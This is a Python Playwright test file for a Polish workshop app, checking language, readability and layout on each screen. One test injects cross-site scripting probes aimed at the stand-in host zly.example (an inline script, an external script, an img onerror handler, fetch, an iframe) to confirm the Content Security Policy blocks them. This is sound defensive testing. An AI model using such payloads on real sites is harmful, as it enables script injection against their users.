"""Every screen in Polish, with the example in it: nothing pale, nothing English, no empty head."""

import re
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from playwright.sync_api import Page, expect
from sqlmodel import Session, SQLModel, update

from tests.browser.devices import LAPTOP, OpenContext, OpenPage
from tests.browser.pages import Desk, sign_in, wait_until
from tests.browser.readable import count_texts, list_pale_texts
from tests.rooms import Room, make_account
from tests.rooms import sign_in as cookie_of
from workshop.demo import LoadDemo, load_demo
from workshop.people.recruiters import NameRecruiter, name_recruiter
from workshop.people.rights import Actor
from workshop.people.tables import Account
from workshop.settings import ROOT
from workshop.store.store import Store
from workshop.ui.shell.screens import SCREENS

SIDE_BAR = 12
"""More texts than these stand in the side bar of every page."""
HIGHEST, HIGHEST_OF_BOARD = 60, 260
"""Where a page and the affinity wall begin at the latest, in px from the top."""
ENGLISH = re.compile(
    r"^(Open|Close|Clear .*|Choose .*|Help( for .*)?|.*sidebar|App pages|Skip to .*|Navigate to .*"
    r"|Fullscreen|Show password.*|Link to heading|Scroll tabs .*|Download .*|Press .*|.* icon)$"
)
NAMES = """
() => [...document.querySelectorAll("[aria-label], [title], [placeholder]")]
  .filter((element) => !element.closest("[aria-hidden=true]"))
  .flatMap((element) =>
    ["aria-label", "title", "placeholder"].map((name) => element.getAttribute(name) ?? ""),
  )
"""


COVERED = """
() => {
  const boxOf = (node) => {
    const range = document.createRange();
    range.selectNodeContents(node);
    return range.getBoundingClientRect();
  };
  const title = boxOf(document.querySelector("h1"));
  return [...document.querySelectorAll("[data-testid=stMain] p")]
    .filter((node) => {
      const box = boxOf(node);
      const beside = box.left >= title.right || box.right <= title.left;
      return box.width && !beside && box.top < title.bottom - 4 && box.bottom > title.top + 4;
    })
    .map((node) => node.textContent);
}
"""
"""Texts that stand on the title of a page."""


STRANGERS = "https://zly.example/x www.zly.example ktos@zly.example [x](https://zly.example/y)"
LINKS_OF_STRANGERS = "a[href*='zly.example']"
TEXTS = {
    "activity": ("prompt",),
    "assessment": ("evidence", "obstacle", "next_action"),
    "clause": ("title", "body", "rationale", "steps", "meaning_client", "status_reason"),
    "comment": ("text",),
    "evidence": ("figure", "caveat"),
    "finding": ("text",),
    "journeystep": ("action", "thoughts", "barrier"),
    "need": ("need", "goal"),
    "note": ("text",),
    "note_group": ("header",),
    "persona": ("situation", "context", "goals"),
    "practice": ("what", "needs_here"),
    "questionnaire": ("intro",),
    "unit": ("name",),
    "workingsession": ("goal",),
}
"""Table → columns of what people write, as the example has it."""

INJECTED = """
() => new Promise((done) => {
  const wanted = new Set([
    "script-src-elem", "script-src-attr", "connect-src", "img-src", "frame-src",
  ]);
  document.addEventListener("securitypolicyviolation", (event) => {
    wanted.delete(event.effectiveDirective);
    if (!wanted.size) done([]);
  });
  setTimeout(() => done([...wanted]), 20_000);
  const add = (tag, fields) =>
    document.body.append(Object.assign(document.createElement(tag), fields));
  const breaking = "window.broken = 1";
  add("script", { textContent: breaking });
  add("script", { src: "https://zly.example/x.js" });
  const handled = document.createElement("div");
  handled.innerHTML = `<img src="data:," onerror="${breaking}">`;
  document.body.append(handled);
  fetch("https://zly.example/x").catch(() => {});
  add("img", { src: "https://zly.example/x.png" });
  add("iframe", { src: "https://zly.example/" });
})
"""
"""What somebody would try who has got markup into a page; ends once each of it was refused, with
what was not."""


@pytest.fixture
def language() -> str:
    return "pl"


@dataclass(frozen=True)
class House:
    """The cookie of an administrator, and the example programme in their house."""

    cookie: str
    slug: str


@pytest.fixture(scope="module")
def hanna(server_store: Store) -> House:
    """Who may do everything."""
    admin = make_account(server_store, "hanna", "admin", "pl")
    demo = server_store.write(load_demo, admin, LoadDemo(ROOT / "data", "pl"))
    server_store.write(name_recruiter, admin, NameRecruiter(demo.id, admin.id))
    server_store.write(_name_strangers, admin, demo.id)
    with server_store.read() as db:
        account = db.get(Account, admin.id)
        assert account is not None
        return House(cookie_of(server_store, account.username), demo.slug)


def _name_strangers(db: Session, _actor: Actor, programme_id: str) -> None:
    """Put addresses into all that people have written."""
    for name, columns in TEXTS.items():
        table = SQLModel.metadata.tables[name]
        for column in columns:
            row = table.c[column]
            longer = update(table).where(table.c.programme_id == programme_id, row != "")
            db.execute(longer.values({column: row + f" {STRANGERS}"}))


@pytest.fixture(params=["light", "dark"])
def desk(
    open_context: OpenContext, room: Room, hanna: House, request: pytest.FixtureRequest
) -> Page:
    """Hanna's browser, in the light and in the dark."""
    context = open_context(**LAPTOP, color_scheme=request.param)
    sign_in(context, room, hanna.cookie)
    return context.new_page()


def visit(page: Page, room: Room, house: House, screen: str) -> None:
    """Open a screen and wait until all of it is drawn."""
    path = "" if screen == "programme" else screen
    page.goto(f"{room.url}/{path}?programme={house.slug}")
    wait_for_frame(page)


def wait_for_frame(page: Page) -> None:
    """Until the page is drawn and has its style and words."""
    expect(page.get_by_role("heading").first).to_be_visible()
    app = page.get_by_test_id("stApp")
    expect(app).to_have_attribute("data-test-script-state", "notRunning")
    expect(page.get_by_role("link", name="Przejdź do treści")).to_have_count(1)
    page.wait_for_load_state("networkidle")
    # Cards that are still coming in are paler than they will be.
    wait_until(
        page,
        "document.getAnimations().every((one) => one.playState !== 'running'"
        " || one.effect.getTiming().iterations === Infinity)",
    )


def names(page: Page) -> set[str]:
    """What the parts of a page are called for people who do not see them."""
    said = {name.strip() for name in page.evaluate(NAMES)}
    return said | {
        text.strip() for text in page.get_by_test_id("InputInstructions").all_inner_texts()
    }


@pytest.mark.parametrize("screen", [screen.key for screen in SCREENS])
def test_a_page_can_be_read_and_speaks_polish(
    desk: Page, room: Room, hanna: House, screen: str
) -> None:
    visit(desk, room, hanna, screen)
    top = desk.get_by_role("heading").first.bounding_box()
    assert top is not None
    assert top["y"] <= HIGHEST
    assert desk.evaluate(COVERED) == []
    assert count_texts(desk) > SIDE_BAR
    assert not list_pale_texts(desk)
    assert not {name for name in names(desk) if ENGLISH.match(name) or "\\" in name}
    assert desk.locator(LINKS_OF_STRANGERS).count() == 0


def test_a_script_that_gets_into_a_page_does_not_run(
    open_context: OpenContext, room: Room, hanna: House, refused: list[str]
) -> None:
    context = open_context(**LAPTOP)
    sign_in(context, room, hanna.cookie)
    page = context.new_page()
    for screen in ("session", "join", "screen"):
        page.goto(f"{room.url}/{screen}?programme={hanna.slug}")
        assert page.evaluate(INJECTED) == [], screen
        assert page.evaluate("window.broken") is None
    refused.clear()


def test_a_session_that_runs_can_be_read(room: Room, open_desk: Callable[[], Desk]) -> None:
    room.write("Numer 600 100 200")
    desk = open_desk()
    desk.page.emulate_media(reduced_motion="reduce")
    for tab in ("Czekające karteczki", "Kto jest", "Tablica", "Ustalenia", "Protokół"):
        desk.page.get_by_role("tab", name=tab).click()
        expect(desk.page.get_by_role("tab", name=tab)).to_have_attribute("aria-selected", "true")
        assert not list_pale_texts(desk.page), tab


def test_a_plan_without_a_persona_can_be_read(room: Room, open_page: OpenPage) -> None:
    room.run("empathy_map", "Mapa bez persony")
    page = open_page("/?session=3")
    wait_for_frame(page)
    expect(page.get_by_text("jeszcze bez persony")).to_be_visible()
    assert not list_pale_texts(page)


def test_the_wall_of_groups_begins_high_enough_to_see_them(
    open_context: OpenContext, room: Room, hanna: House
) -> None:
    context = open_context(**LAPTOP)
    sign_in(context, room, hanna.cookie)
    page = context.new_page()
    visit(page, room, hanna, "grouping")
    board = page.locator(".wb-affinity")
    expect(board).to_be_visible()
    box = board.bounding_box()
    assert box is not None
    assert box["y"] < HIGHEST_OF_BOARD


def test_the_session_cards_of_one_half_day_line_up(
    open_context: OpenContext, room: Room, hanna: House
) -> None:
    context = open_context(**LAPTOP)
    sign_in(context, room, hanna.cookie)
    page = context.new_page()
    visit(page, room, hanna, "programme")
    columns = page.locator(".st-key-timeline [data-testid=stColumn]")
    expect(columns).to_have_count(5)
    tops = columns.evaluate_all(
        """columns => columns.map((column) =>
          [...column.querySelectorAll(".stButton")].map((it) => it.getBoundingClientRect().top))"""
    )
    assert [len(set(row)) for row in zip(*tops, strict=True)] == [1, 1]


def test_phases_and_timer_stay_in_sight_on_the_way_down(
    room: Room, open_desk: Callable[[], Desk]
) -> None:
    desk = open_desk()
    wait_for_frame(desk.page)
    last = desk.page.get_by_text("Zamknięcie", exact=True)
    last.scroll_into_view_if_needed()
    expect(last).to_be_in_viewport()
    expect(desk.button("advance")).to_be_in_viewport()
